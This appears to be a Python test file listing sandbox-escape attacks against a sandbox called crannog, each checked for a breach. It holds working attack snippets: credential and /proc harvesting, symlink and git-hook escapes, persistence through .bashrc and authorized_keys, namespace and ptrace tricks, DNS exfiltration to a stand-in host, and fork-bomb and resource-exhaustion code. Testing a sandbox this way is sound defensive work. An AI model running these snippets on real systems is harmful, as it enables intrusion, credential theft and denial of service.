"""The attacks. Each is a name, what it is drawn from, the program that is run inside, and how it is judged.

  control   it is run outside too, as the same user, and must succeed there: so it is a real one, and the wall is what stops it
  ends      how the command may end; None: however it likes, as long as it ends
  after     looked at outside when it has ended, in attacks.py
  plant     what a person's folder holds before
"""
ATTACKS = []


def attack(name, program, control=False, ends=0, after=None, plant=None, options=(), seconds=60):
    ATTACKS.append(dict(name=name, program=program, control=control, ends=ends, after=after, plant=plant, options=list(options),
                        seconds=seconds))


# ---- reading what is outside ----

attack('read a file of the person by its path', 'look(W["canary"])', control=True)
attack('read what lies in the home: keys, tokens, cookies, histories', '''
for folder, _, files in os.walk(W["home"]):
    for f in files: look(os.path.join(folder, f))
for path in W["credentials"]: look(path)
''', control=True)
attack('climb out by .. from the working folder', '''
look("../outside/canary"); look("/proc/self/cwd/../outside/canary"); look("../" * 40 + W["canary"][1:])
''', control=True)
attack('go through /proc/PID/root, cwd, fd and exe of every process', '''
for p in os.listdir("/proc"):
    if p.isdigit():
        for door in ("root", "cwd"): look(f"/proc/{p}/{door}{W['canary']}"); look(f"/proc/{p}/{door}/../outside/canary")
        for n in range(64): look(f"/proc/{p}/fd/{n}/../canary"); look(f"/proc/{p}/fd/{n}{W['canary']}")
''', control=True)
attack('a symlink of ones own to it, a chain of them, and one in /tmp', '''
os.symlink(W["canary"], "a"); os.symlink("a", "b"); os.symlink(W["outside"], "/tmp/o") if not os.path.lexists("/tmp/o") else 0
for p in ("a", "b", "/tmp/o/canary"): look(p)
''', control=True, after='no_links_followed')
attack('a hard link to it', 'os.link(W["canary"], "hard"); look("hard")', control=True, ends=None)
attack('a descriptor that was left open by who started crannog', '''
for n in range(3, 256):
    try:
        os.lseek(n, 0, 0); print("READ", n, os.read(n, 4096))
        breach(f"descriptor {n} is open")
    except OSError: pass
''', control=True)
attack('the environment of who started crannog', '''
print("READ", dict(os.environ))
for p in os.listdir("/proc"):
    if p.isdigit(): look(f"/proc/{p}/environ")
''', control=True)
attack('command lines, maps and memory of other processes', '''
for p in os.listdir("/proc"):
    if p.isdigit():
        look(f"/proc/{p}/cmdline")
        if int(p) != os.getpid():
            for f in ("maps", "mem", "auxv", "stack", "syscall", "io"):
                try:
                    with open(f"/proc/{p}/{f}", "rb") as got: breach(f"/proc/{p}/{f}") if f == "mem" or got.read(64) else 0
                except OSError: pass
''', control=True)
attack('the crannog itself: journal, secrets, settings, other steps', '''
for folder, _, files in os.walk(W["crannog"]):
    breach(folder)
for f in (".crannog", ".crannog/journal.db", "crannog.yaml"): look(os.path.join(W["crannog"], f))
''', control=True)
attack('password hashes and keys of the machine', '''
for p in ("/etc/shadow", "/etc/gshadow", "/etc/sudoers", "/etc/ssh", "/etc/machine-id", "/var/log", "/var/lib", "/etc/fstab",
          "/var/spool/cron", "/run", "/boot", "/srv", "/mnt", "/media"):
    try_to(p, os.listdir if os.path.isdir(p) else open, p)
''')
attack('raw disks and memory', '''
for p in glob.glob("/dev/*"):
    if p.split("/")[-1] not in ("null", "zero", "full", "random", "urandom", "fd", "stdin", "stdout", "stderr", "shm", "pts", "ptmx", "tty", "mqueue"): breach(p)
for p in ("/dev/mem", "/dev/kmem", "/dev/kmsg", "/dev/vda", "/dev/sda", "/dev/nvme0n1", "/dev/loop0", "/dev/fuse", "/dev/kvm", "/dev/net/tun"):
    try_to(p, open, p)
for major, minor in ((1, 1), (8, 0), (254, 0), (7, 0), (10, 229)):
    try_to("mknod", os.mknod, f"d{major}", 0o666 | stat.S_IFBLK, os.makedev(major, minor)); try_to("mknod", os.mknod, f"c{major}", 0o666 | stat.S_IFCHR, os.makedev(major, minor))
''')
attack('what /proc and /sys tell of the kernel', '''
for p in ("/proc/kcore", "/proc/kmsg", "/proc/sysrq-trigger", "/proc/kallsyms", "/proc/keys", "/proc/timer_list", "/proc/sched_debug", "/proc/config.gz",
          "/proc/iomem", "/proc/cmdline", "/proc/modules", "/proc/interrupts", "/proc/diskstats", "/proc/partitions"):
    try:
        with open(p, "rb") as f:
            if f.read(1): breach(p)
    except OSError: pass
try_to("/sys", os.listdir, "/sys") if os.path.exists("/sys") and os.listdir("/sys") else 0
''')
attack('a file by its handle, past every path (the shocker)', '''
h = ctypes.create_string_buffer(b"\\x08\\0\\0\\0\\x01\\0\\0\\0\\x02\\0\\0\\0\\0\\0\\0\\0" + b"\\0" * 64)
fd = os.open(".", os.O_RDONLY)
for ino in (2, 1, 128, 256):
    h[8:12] = ino.to_bytes(4, "little"); let("open_by_handle_at", call("handle", fd, h, 0))
''')
attack('kernel keyrings of the person', '''
buf = ctypes.create_string_buffer(4096)
for ring in (-1, -2, -3, -4, -5): let("keyctl", call("keyctl", 11, ring, buf, 4096))
let("add_key", call("add_key", b"user", b"x", b"y", 1, -3))
''')
attack('io_uring, which knows no filter of system calls', 'let("io_uring", call("io_uring_setup", 4, ctypes.create_string_buffer(120)))')
attack('a set-id program of the system gives rights', '''
for p in glob.glob("/usr/bin/*") + glob.glob("/usr/sbin/*"):
    try: s = os.stat(p)
    except OSError: continue
    if s.st_mode & 0o6000:
        try: r = subprocess.run([p, "--help"], capture_output=True, timeout=5, stdin=subprocess.DEVNULL)
        except (OSError, subprocess.TimeoutExpired): continue
r = subprocess.run(["su", "-c", "id -u"], capture_output=True, stdin=subprocess.DEVNULL, timeout=10)
if r.returncode == 0: breach("su")
r = subprocess.run(["sh", "-c", "cat /etc/shadow || mount -t tmpfs x /tmp"], capture_output=True)
if r.returncode == 0: breach("rights")
''')

# ---- writing what is outside ----

attack('write to a file of the person by its path', '''
try_to("canary", write, W["canary"]); try_to("new", write, W["outside"] + "/new")
try_to("rename", os.rename, W["canary"], W["outside"] + "/moved"); try_to("unlink", os.unlink, W["canary"])
''')
attack('start-up files, keys and timers in the home', '''
for p in (".profile", ".bashrc", ".ssh/authorized_keys", ".config/autostart/x.desktop", ".config/systemd/user/x.service", ".gitconfig", ".claude/settings.json", ".local/bin/git"):
    try: os.makedirs(os.path.dirname(os.path.join(W["home"], p)), exist_ok=True); write(os.path.join(W["home"], p))
    except OSError: pass
''')
attack('the system', '''
for p in ("/usr/bin/x", "/usr/local/bin/git", "/etc/passwd", "/etc/ld.so.preload", "/etc/cron.d/x", "/lib/x", "/bin/sh", "/x", "/dev/x", "/var/spool/cron/crontabs/root"):
    try_to(p, write, p)
''')
attack('settings of the kernel', '''
for p in ("/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sysrq-trigger", "/proc/sys/net/ipv4/ip_forward", "/proc/sys/vm/overcommit_memory",
          "/proc/sys/kernel/randomize_va_space", "/proc/1/oom_score_adj", "/proc/self/uid_map", "/proc/sys/fs/binfmt_misc/register"):
    try_to(p, lambda: os.write(os.open(p, os.O_WRONLY), b"1"))
''')
attack('through a link that it left: the landing follows nothing', '''
os.symlink(W["canary"], "link"); open("link2", "w").close() or os.unlink("link2"); os.symlink(W["outside"], "folder")
try_to("link", write, "link"); try_to("folder", write, "folder/new")
''', after='no_links_followed')
attack('through a link of the persons own that leads out', '''
try_to("link", write, "theirs"); 
try: os.unlink("theirs"); write("theirs")
except OSError: pass
''', plant='link_out')
attack('a folder becomes a link between two steps', '''
os.rename("folder", "aside") if os.path.isdir("folder") and not os.path.islink("folder") else 0
''', after='swapped_folder', plant='folder', ends=None)
attack('the other name of a file that has one outside', 'write("shared", b"pwned\\n")', plant='hard_out', ends=None)
attack('a set-id file, a capability, a device are left for a later reader', '''
import shutil; shutil.copy("/bin/sh", "sh")
for mode in (0o4755, 0o2755, 0o6777):
    try: os.chmod("sh", mode)
    except OSError: pass
try: os.setxattr("sh", "security.capability", bytes.fromhex("0100000200e4000000000000000000000000000000000000")[:20])
except OSError: pass
try: os.mknod("dev", 0o666 | stat.S_IFCHR, os.makedev(1, 5))
except OSError: pass
''', after='no_setid', ends=None)
attack('git hooks, filters and settings that would run outside', '''
os.makedirs(".git/hooks", exist_ok=True)
for h in ("post-checkout", "pre-commit", "reference-transaction", "fsmonitor-watchman", "post-index-change"): write(f".git/hooks/{h}", f"#!/bin/sh\\ntouch {W['outside']}/ran\\n".encode()); os.chmod(f".git/hooks/{h}", 0o755)
with open(".git/config", "a") as f: f.write(f'[core]\\n\\tfsmonitor = "touch {W["outside"]}/ran; false"\\n\\thooksPath = .hooks\\n\\tsshCommand = "touch {W["outside"]}/ran"\\n[diff]\\n\\texternal = "touch {W["outside"]}/ran"\\n[alias]\\n\\tst = "!touch {W["outside"]}/ran"\\n')
with open(".gitattributes", "a") as f: f.write("* filter=x diff=x\\n")
''', plant='repository', after='git_runs_nothing', ends=None)
attack('the same under other spellings of .git', '''
for d in (".GIT", ".git ", ".git.", ".g\\u200cit", "GIT~1", ".Git"):
    try: os.makedirs(f"{d}/hooks"); write(f"{d}/hooks/post-checkout", b"#!/bin/sh\\ntouch ran\\n"); os.chmod(f"{d}/hooks/post-checkout", 0o755)
    except OSError: pass
''', plant='repository', after='git_runs_nothing', ends=None)
attack('a nested repository, a worktree file and a submodule', f'''
os.makedirs("sub/hooks"); os.makedirs("sub/objects"); os.makedirs("sub/refs"); write("sub/HEAD", b"ref: refs/heads/m\\n")
write("sub/config", f'[core]\\nbare=false\\nworktree=..\\nfsmonitor="touch {{W["outside"]}}/ran; false"\\n'.encode())
write(".git2", b"gitdir: sub\\n"); os.makedirs("deep", exist_ok=True); write("deep/.git", b"gitdir: ../sub\\n")
''', plant='repository', after='git_runs_nothing', ends=None)
attack('links in .git, through which the persons git would write', '''
for name, to in (("logs/HEAD", W["canary"]), ("COMMIT_EDITMSG", W["canary"]), ("index", W["canary"]), ("ORIG_HEAD", W["canary"]), ("objects/info", "../../evil"), ("packed-refs", W["canary"])):
    try: os.unlink(f".git/{name}")
    except OSError:
        try: os.rename(f".git/{name}", "aside")
        except OSError: pass
    os.makedirs(os.path.dirname(f".git/{name}"), exist_ok=True)
    os.symlink(to, f".git/{name}")
os.makedirs("evil", exist_ok=True); write("evil/alternates", b"/\\n")
''', plant='repository', after='git_writes_nothing', ends=None)
attack('a repository within .git, met through a link', '''
r = ".git/foo"
os.makedirs(f"{r}/objects"); os.makedirs(f"{r}/refs"); os.makedirs(f"{r}/hooks"); write(f"{r}/HEAD", b"ref: refs/heads/m\\n")
write(f"{r}/config", f"[core]\\n\\trepositoryformatversion = 0\\n\\tbare = false\\n\\tworktree = ../..\\n\\tfsmonitor = \\"touch {W['outside']}/ran; false\\"\\n".encode())
write(f"{r}/hooks/post-checkout", f"#!/bin/sh\\ntouch {W['outside']}/ran\\n".encode()); os.chmod(f"{r}/hooks/post-checkout", 0o755)
import shutil; shutil.copy(".git/index", f"{r}/index")
os.symlink(".git/foo", "docs"); os.symlink("foo", ".git/modules")
''', plant='repository', after='git_runs_nothing', ends=None)
attack('a lock that stops the persons git', '''
for name in ("HEAD", "config", "index", "packed-refs"): write(f".git/{name}.lock")
''', plant='repository', after='git_works', ends=None)
attack('files that editors, shells and agents run by themselves', '''
for p in (".envrc", ".vscode/tasks.json", ".vscode/settings.json", ".idea/workspace.xml", ".claude/settings.json", ".claude/settings.local.json", ".codex/config.toml", ".mcp.json", ".husky/pre-commit", ".devcontainer/devcontainer.json"):
    os.makedirs(os.path.dirname(p) or ".", exist_ok=True); write(p)
''', after='guarded_waits', ends=4)
attack('a FIFO, a socket and a deep tree that hang or break a later reader', '''
os.mkfifo("fifo"); s = socket.socket(socket.AF_UNIX); s.bind("sock")
os.makedirs("d", exist_ok=True); os.chdir("d")
for i in range(1500):
    os.mkdir("n"); os.chdir("n")
''', after='readers_live', ends=None)
attack('names that steer a terminal or split a line', '''
for n in ("\\x1b]0;owned\\x07", "a\\nb", "-rf", "\\u202egnp.exe", "x" * 255, "\\x9b31m"): write(n)
os.close(os.open(b"\\xff\\xfe", os.O_CREAT | os.O_WRONLY))
''', after='no_escapes', ends=None)
attack('attributes of the overlay itself', '''
os.mkdir("o"); open("o/f", "w").close()
for p in ("o", "o/f"):
    for n, v in (("user.overlay.opaque", b"y"), ("user.overlay.redirect", b"/../../outside"), ("user.overlay.metacopy", b""), ("user.overlay.origin", b"\\0" * 32)):
        try: os.setxattr(p, n, v)
        except OSError: pass
    try_to("trusted", os.setxattr, p, "trusted.overlay.redirect", b"/")
''', ends=None, after='still_works')
attack('a sparse file of an exabyte', '''
f = os.open("big", os.O_RDWR | os.O_CREAT)
for n in (1 << 60, 1 << 50, 1 << 45):
    try: os.ftruncate(f, n); breach(str(n)); break
    except OSError: pass
''', ends=None)

# ---- reaching sockets ----

attack('a server on the loopback of the machine', '''
for family, address in ((socket.AF_INET, ("127.0.0.1", W["port"])), (socket.AF_INET6, ("::1", W["port"])), (socket.AF_INET, ("0.0.0.0", W["port"])), (socket.AF_INET, ("127.1.2.3", W["port"]))):
    try_to(str(address), dial, family, address)
''', control=True)
attack('addresses of the machine, of its neighbours and of its cloud', '''
for a in ("169.254.169.254", "10.0.0.1", "192.168.0.1", "172.17.0.1", "1.1.1.1", "224.0.0.1", "255.255.255.255") + tuple(W["addresses"]):
    try_to(a, dial, socket.AF_INET, (a, 80)); try_to("udp " + a, dial, socket.AF_INET, (a, 53), socket.SOCK_DGRAM)
try_to("v6", dial, socket.AF_INET6, ("fe80::1", 80)); try_to("v6", dial, socket.AF_INET6, ("2606:4700::1111", 53), socket.SOCK_DGRAM)
''')
attack('names as a way out', '''
try_to("a name", socket.getaddrinfo, "pwned.example.org", 80)
r = subprocess.run(["getent", "hosts", "secret.pwned.example.org"], capture_output=True, timeout=30)
if r.returncode == 0: breach("getent")
''')
attack('raw packets, netlink, vsock and other families', '''
for family in list(range(0, 46)):
    if family in (1, 2, 10): continue
    for kind in (1, 2, 3, 5):
        for protocol in range(0, 24):
            if family == 16 and protocol == 0: continue # asks what interfaces there are: its own loopback
            try: socket.socket(family, kind, protocol).close()
            except OSError: continue
            breach(f"family {family} kind {kind} protocol {protocol}")
try:
    if len(socket.if_nameindex()) > 1: breach("interfaces of the machine")
except OSError: pass
try_to("raw", socket.socket, socket.AF_INET, socket.SOCK_RAW, 1); try_to("raw", socket.socket, socket.AF_INET6, socket.SOCK_RAW, 58)
''')
attack('a socket of the machine by its path, also one in the folder', '''
for p in W["sockets"]: try_to(p, dial, socket.AF_UNIX, p)
try_to("theirs.sock", dial, socket.AF_UNIX, "theirs.sock")
''', control=True)
attack('an abstract socket', 'try_to("abstract", dial, socket.AF_UNIX, "\\0" + W["abstract"])', control=True)
attack('the session bus, the ssh agent, Docker and X by their variables and usual places', '''
for v in ("SSH_AUTH_SOCK", "DBUS_SESSION_BUS_ADDRESS", "DOCKER_HOST", "DISPLAY", "WAYLAND_DISPLAY", "XDG_RUNTIME_DIR", "GPG_AGENT_INFO"):
    if v in os.environ: breach(v)
for p in ("/run/docker.sock", "/var/run/docker.sock", "/run/dbus/system_bus_socket", "/run/systemd/private", "/tmp/.X11-unix/X0", f"/run/user/{os.getuid()}/bus", "/run/containerd/containerd.sock", "/run/snapd.socket"):
    try_to(p, dial, socket.AF_UNIX, p)
''', control=True)
attack('a FIFO in the folder with somebody behind it', '''
try: fd = os.open("theirs.fifo", os.O_WRONLY | os.O_NONBLOCK); os.write(fd, b"pwned"); breach("fifo")
except OSError: pass
''', control=True)
attack('sockets and FIFOs with somebody behind them, in a folder that is shown and in a toolchain', '''
for folder in W["shown"]:
    with open(folder + "/file") as f:
        if f.read() != "shown\\n": sys.exit("it is not shown")
    try_to(folder, dial, socket.AF_UNIX, folder + "/sock")
    try: fd = os.open(folder + "/fifo", os.O_WRONLY | os.O_NONBLOCK); os.write(fd, b"pwned"); breach("fifo")
    except OSError: pass
    look(folder + "/fifo")
''', control=True, options=('--show', '{shown}'))
attack('a listener that the machine would see', '''
s = socket.socket(); s.bind(("0.0.0.0", W["free_port"])); s.listen(); print("PORT"); sys.stdout.flush(); time.sleep(0.5)
''', after='port_is_shut')

# ---- other processes ----

attack('processes of the machine are seen or signalled', '''
for p in W["pids"]:
    try: os.kill(p, 0); print("there is a", p)
    except ProcessLookupError: pass
    except PermissionError: breach(f"{p} is seen")
names = [open(f"/proc/{p}/comm").read() for p in os.listdir("/proc") if p.isdigit()]
if len(names) > 4: breach(str(names))
for sig in (0, signal.SIGTERM, signal.SIGKILL):
    try: os.kill(1, sig)
    except OSError: pass
os.kill(os.getpid(), 0)
''')
attack('the first process is traced, read or starved', '''
for pid in (1, os.getppid()):
    let("attach", call("ptrace", 16, pid, 0, 0)); let("seize", call("ptrace", 0x4206, pid, 0, 0))
    let("readv", call("process_vm_readv", pid, ctypes.create_string_buffer(16), 1, ctypes.create_string_buffer(16), 1, 0))
    fd = call("pidfd_open", pid, 0)
    if fd >= 0:
        for n in range(8): let("getfd", call("pidfd_getfd", fd, n, 0))
''')
attack('it lives on as a daemon', '''
for i in range(3):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            signal.signal(signal.SIGTERM, signal.SIG_IGN); signal.signal(signal.SIGHUP, signal.SIG_IGN)
            os.execv("/bin/sleep", ["sleep", W["mark"]])
        os._exit(0)
subprocess.Popen(["nohup", "setsid", "sleep", W["mark"]], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
time.sleep(0.2)
''')
attack('it lives on stopped, as a zombies parent, or forking all the time', '''
p = subprocess.Popen(["sleep", W["mark"]]); os.kill(p.pid, signal.SIGSTOP)
if os.fork() == 0:
    end = time.time() + 20
    while time.time() < end:
        if os.fork(): os._exit(0)
''')
attack('it hands work to a daemon of the machine', '''
for c in (["at", "now"], ["crontab", "-"], ["systemd-run", "--user", "touch", W["outside"] + "/ran"], ["batch"], ["screen", "-dm", "true"], ["docker", "run", "x"]):
    try: r = subprocess.run(c, input=f"touch {W['outside']}/ran\\n".encode(), capture_output=True, timeout=20)
    except (OSError, subprocess.TimeoutExpired): continue
    if r.returncode == 0 and c[0] not in ("screen",): breach(c[0])
''')
attack('it types into the terminal that started it', '''
import fcntl
for fd in (0, 1, 2):
    try_to("TIOCSTI", fcntl.ioctl, fd, 0x5412, b"x"); try_to("TIOCLINUX", fcntl.ioctl, fd, 0x541C, b"\\2\\0")
try_to("tty", open, "/dev/tty", "w"); try_to("console", open, "/dev/console", "w")
''')

# ---- the kernel ----

attack('new namespaces, and with them all rights', '''
for f in (0x10000000, 0x20000, 0x20000000, 0x40000000, 0x8000000, 0x4000000, 0x2000000, 0x80, 0x10020000):
    let(f"unshare {f:x}", call("unshare", f)); 
    r = call("clone", f | 17, 0, 0, 0, 0) if f > 255 else -1
    if r == 0: os._exit(0)
    let(f"clone {f:x}", r)
let("clone3", call("clone3", ctypes.create_string_buffer(88), 88))
for n in os.listdir("/proc/self/ns"):
    let("setns", call("setns", os.open(f"/proc/self/ns/{n}", os.O_RDONLY), 0))
    for p in (1, os.getppid()):
        try: fd = os.open(f"/proc/{p}/ns/{n}", os.O_RDONLY)
        except OSError: continue
        let("setns", call("setns", fd, 0))
''')
# What a browser may build inside (--browser): a user namespace, in which it is the master, and what that must not bring.
NESTED = '''
def enter(flags=0x10000000 | 0x40000000):
    me, group = os.getuid(), os.getgid()
    if call("unshare", flags): print("cannot even nest"); os._exit(0)
    try:
        for name, text in (("setgroups", "deny"), ("uid_map", f"0 {me} 1"), ("gid_map", f"0 {group} 1")):
            with open(f"/proc/self/{name}", "w") as f: f.write(text)
    except PermissionError:
        if me == 0:  # the kernel lets nobody nest whose number is 0; an ordinary user's round proves the rest
            print("TRIED", flush=True)
            os._exit(0)
        raise
    if os.getuid() != 0: breach("no master of its own namespace: the attack proves nothing")
enter()
'''
attack('nested: mounts', NESTED + '''
let("mount", call("mount", b"none", b"/tmp", b"tmpfs", 0, b"")); let("bind", call("mount", b"/usr", b"/tmp", b"", 4096, b""))
let("remount", call("mount", b"none", b"/usr", b"", 4096 | 32, b"")); let("umount", call("umount2", b"/proc/sys", 2))
let("fsopen", call("fsopen", b"overlay", 0)); let("open_tree", call("open_tree", -100, b"/", 1))
let("pivot", call("pivot_root", b"/tmp", b"/tmp"))
for f in (0x20000, 0x4000000, 0x8000000, 0x2000000, 0x80, 0x10020000):
    let(f"unshare {f:x}", call("unshare", f))
for n in os.listdir("/proc/self/ns"): let("setns", call("setns", os.open(f"/proc/self/ns/{n}", os.O_RDONLY), 0))
''', options=['--browser'])
attack('nested: the network of its own, and what it reaches in the kernel', NESTED + '''
for protocol in range(0, 24):
    for kind in (socket.SOCK_RAW, socket.SOCK_DGRAM):
        try: socket.socket(socket.AF_NETLINK, kind, protocol); breach(f"netlink {protocol}")
        except OSError: pass
for family in (socket.AF_INET, socket.AF_INET6, socket.AF_PACKET):
    for protocol in (1, 6, 17, 58, 255):
        try: socket.socket(family, socket.SOCK_RAW, protocol); breach(f"raw {family} {protocol}")
        except OSError: pass
for family, level, options in ((socket.AF_INET, 0, range(64, 132)), (socket.AF_INET6, 41, (64, 65))):
    s = socket.socket(family, socket.SOCK_DGRAM)
    for o in options:
        try: s.setsockopt(level, o, b"\\0" * 200); breach(f"table {level} {o}")
        except OSError as e:
            if e.errno != errno.EPERM: breach(f"table {level} {o}: {e}")
        try: s.getsockopt(level, o, 200); breach(f"table {level} {o}")
        except OSError as e:
            if e.errno != errno.EPERM: breach(f"table {level} {o}: {e}")
socket.socket(socket.AF_INET6, socket.SOCK_STREAM).setsockopt(41, 67, 0)  # IPV6_TCLASS is no table
''', options=['--browser'])
attack('nested: settings of the machine and of other processes', NESTED + '''
for root, _, files in os.walk("/proc/sys"):
    for f in files:
        try: open(os.path.join(root, f), "r+b", buffering=0).write(b"1"); breach(os.path.join(root, f))
        except OSError: pass
for pid in (1, os.getppid()):
    for f in ("mem", "oom_score_adj", "uid_map", "setgroups", "clear_refs", "coredump_filter", "timens_offsets"):
        if pid == os.getpid(): continue
        if pid != 1 and f in ("oom_score_adj", "coredump_filter", "clear_refs"): continue  # its own shell
        try: open(f"/proc/{pid}/{f}", "r+b", buffering=0).write(b"0"); breach(f"{pid} {f}")
        except OSError: pass
    let("ptrace", call("ptrace", 16, pid, 0, 0)); let("readv", call("process_vm_readv", pid, ctypes.create_string_buffer(16), 1, ctypes.create_string_buffer(16), 1, 0))
for f in ("/proc/sysrq-trigger", "/proc/kcore", "/proc/kmsg", "/proc/irq/default_smp_affinity"):
    try: open(f, "r+b", buffering=0).write(b"h"); breach(f)
    except OSError: pass
let("bpf", call("bpf", 0, ctypes.create_string_buffer(128), 128)); let("keyctl", call("keyctl", 0, -3, 1, 0, 0)); let("perf", call("perf", ctypes.create_string_buffer(128), 0, -1, -1, 0))
''', options=['--browser'])
attack('nested: out of a root that it changed itself', NESTED + '''
os.mkdir("/tmp/deep"); os.chdir("/tmp")
top = os.open("/", os.O_RDONLY)
os.chroot("deep"); os.fchdir(top)
for i in range(64): os.chdir("..")
os.chroot(".")
look(W["canary"])
if "usr" not in os.listdir("/"): breach("a root that is not the jail's")
for n in (b"/made", b"/usr/made"):
    try: os.close(os.open(n, os.O_CREAT | os.O_WRONLY)); breach(n)
    except OSError: pass
try: os.mknod("/tmp/dev", 0o600 | stat.S_IFBLK, os.makedev(254, 0)); breach("a device")
except OSError: pass
try: os.chmod("/tmp/deep", 0o4755); breach("set-id")
except OSError: pass
''', options=['--browser'])
attack('nested: processes that hide in a pid namespace', NESTED + '''
if call("unshare", 0x20000000): print("no pid namespace")
for i in range(3):
    if os.fork() == 0:
        os.setsid(); signal.signal(signal.SIGTERM, signal.SIG_IGN)
        if os.fork() == 0: os.execv("/bin/sleep", ["sleep", W["mark"]])
        time.sleep(300)
''', options=['--browser'])
attack('mounts in the old and the new way', '''
let("tmpfs", call("mount", b"x", b"/tmp", b"tmpfs", 0, b"")); let("bind", call("mount", b"/", b"/tmp", b"", 4096, b""))
let("remount", call("mount", b"", b"/usr", b"", 4096 | 32, b"")); let("proc", call("mount", b"x", b"/tmp", b"proc", 0, b""))
let("umount", call("umount2", b"/proc", 2)); let("umount", call("umount2", b"/usr", 2)); let("pivot", call("pivot_root", b"/tmp", b"/tmp")); let("chroot", call("chroot", b"/tmp"))
let("fsopen", call("fsopen", b"tmpfs", 0)); let("open_tree", call("open_tree", -100, b"/", 1)); let("setattr", call("mount_setattr", -100, b"/usr", 0, ctypes.create_string_buffer(32), 32))
''')
attack('parts of the kernel that a tool does not need', '''
z = ctypes.create_string_buffer(256)
for name, args in (("bpf", (0, z, 72)), ("perf", (z, 0, -1, -1, 0)), ("userfaultfd", (1,)), ("personality", (0x40000,)), ("kexec_load", (0, 0, 0, 0)), ("init_module", (z, 1, b"")),
                   ("finit_module", (0, b"", 0)), ("acct", (0,)), ("swapon", (b"/tmp/x", 0)), ("reboot", (0xfee1dead, 672274793, 0, 0)), ("syslog", (3, z, 256)), ("quotactl", (0, 0, 0, 0)),
                   ("settimeofday", (z, 0)), ("fanotify", (0, 0))):
    let(name, call(name, *args))
''')
attack('capabilities, ids and groups', '''
status = open("/proc/self/status").read()
for line in status.splitlines():
    k, _, v = line.partition(":")
    if k in ("CapEff", "CapPrm", "CapInh", "CapBnd", "CapAmb") and int(v, 16): breach(line)
    if k == "NoNewPrivs" and v.strip() != "1": breach(line)
    if k == "Seccomp" and v.strip() != "2": breach(line)
if os.getuid():
    try_to("setuid", os.setuid, 0)
try_to("setgroups", os.setgroups, [0]); try_to("chown", lambda: (open("c", "w").close(), os.chown("c", 12345, 12345)))
''')
attack('a core file of what it was given', '''
import resource
resource_was = resource.getrlimit(resource.RLIMIT_CORE)
try_to("core", resource.setrlimit, resource.RLIMIT_CORE, (1 << 30, 1 << 30))
pid = os.fork()
if pid == 0: os.abort()
if os.WCOREDUMP(os.waitpid(pid, 0)[1]): breach("core dumped")
''')
attack('limits that can be raised again', '''
import resource
for name in ("NPROC", "NOFILE", "DATA", "FSIZE", "CPU", "AS", "MEMLOCK"):
    what = getattr(resource, "RLIMIT_" + name); soft, hard = resource.getrlimit(what)
    if hard != resource.RLIM_INFINITY: try_to(name, resource.setrlimit, what, (hard + 1, hard + 1))
try_to("nice", os.nice, -5)
''')

# ---- exhausting ----

attack('a fork bomb', '''
n = 0
try:
    while n < 20000:
        if os.fork() == 0: signal.pause()
        n += 1
    breach(f"{n} processes")
except OSError: pass
''')
attack('threads without end', '''
import threading
n = 0
try:
    while n < 20000: threading.Thread(target=time.sleep, args=(60,), daemon=True).start(); n += 1
    breach(f"{n} threads")
except RuntimeError: pass
print("TRIED", flush=True); os._exit(0)
''')
attack('memory of one process', '''
b = []
try:
    while len(b) < 64: b.append(b"x" * (64 << 20))
    breach("4 GB")
except MemoryError: pass
''', ends=None, options=['--limit', 'memory=512M'])
attack('memory of many processes together', '''
r, w = os.pipe()
for i in range(16):
    if os.fork() == 0:
        b = b"x" * (128 << 20); os.write(w, b"x"); signal.pause()
time.sleep(2)
if len(os.read(r, 99)) > 5: breach("2 GB")
''', ends=None, options=['--limit', 'memory=512M'])
attack('terminals without end', '''
n, held = 0, []
try:
    while n < 100000: held.append(os.open("/dev/ptmx", os.O_RDWR)); n += 1
    breach(f"{n} terminals")
except OSError: pass
''')
attack('open files, pipes and sockets without end', '''
fds, n = [], 0
for make in (lambda: os.pipe(), lambda: socket.socketpair(), lambda: os.memfd_create("x"), lambda: os.eventfd(0) if hasattr(os, "eventfd") else os.pipe()):
    try:
        while n < 100000: fds.append(make()); n += 1
        breach(str(n))
    except OSError: pass
''')
attack('disk: more than its limit in the folder', '''
f = open("big", "wb")
try:
    for i in range(12 * 64): f.write(b"\\1" * (16 << 20))
    breach("12 GB")
except OSError: pass
''', ends=None, options=['--limit', 'disk=256M'], seconds=60)
attack('disk: a file that has no name any more', '''
f = open("big", "wb"); os.unlink("big")
try:
    for i in range(12 * 64): f.write(b"\\1" * (16 << 20))
    breach("12 GB")
except OSError: pass
''', ends=None, options=['--limit', 'disk=256M'], seconds=60)
attack('disk: names without end in the folder', '''
n = 0
try:
    while n < 3_000_000:
        os.makedirs(f"d/{n}"); n += 1
    breach(f"{n} folders")
except OSError: pass
''', ends=None, options=['--limit', 'files=2000'], seconds=60)
attack('names in /tmp, which are memory', '''
n = 0
try:
    os.makedirs("/tmp/n")
    while n < 3_000_000: os.close(os.open(f"/tmp/n/{n}", os.O_CREAT | os.O_WRONLY)); n += 1
    breach(f"{n} files")
except OSError: pass
if n > 200_000: breach(f"{n} files in 64 MiB")
''', options=['--limit', 'tmp=64M'])
attack('bytes in /tmp and /dev/shm', '''
for p in ("/tmp/b", "/dev/shm/b"):
    try:
        with open(p, "wb") as f:
            for i in range(64 * 8): f.write(b"x" * (16 << 20))
        breach(p)
    except OSError: pass
''')
attack('output without end', '''
import threading
end = time.time() + 1.5
while time.time() < end: os.write(1, b"A" * 65536)
''', after='output_is_bounded')
attack('CPU by many, a nap by the last', '''
for i in range(8):
    if os.fork() == 0:
        while True: pass
time.sleep(1)
''')
